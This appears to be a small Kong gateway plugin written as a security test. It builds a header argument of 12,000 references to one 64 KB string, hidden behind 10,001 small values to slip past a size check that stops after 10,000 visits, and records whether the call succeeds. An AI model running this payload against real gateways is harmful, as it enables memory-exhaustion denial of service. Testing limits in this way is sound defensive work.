// Attack: 12 000 references to one 64 KB string (750 MB as a tree) placed behind 10 001 small values,
// past any size check that stops after 10 000 visits.
class Plugin {
  async access(kong) {
    const big = 'S'.repeat(65536);
    const arg = [new Array(12000).fill(big), ...new Array(10001).fill(1)];
    let outcome;
    try {
      await kong.response.setHeader('x-arg', arg);
      outcome = 'sent';
    } catch (e) {
      outcome = `${e.name}: ${e.message}`;
    }
    await kong.response.setHeader('x-got', JSON.stringify({ outcome }));
  }
}
module.exports = { Plugin, Version: '1.0.0', Priority: 1 };
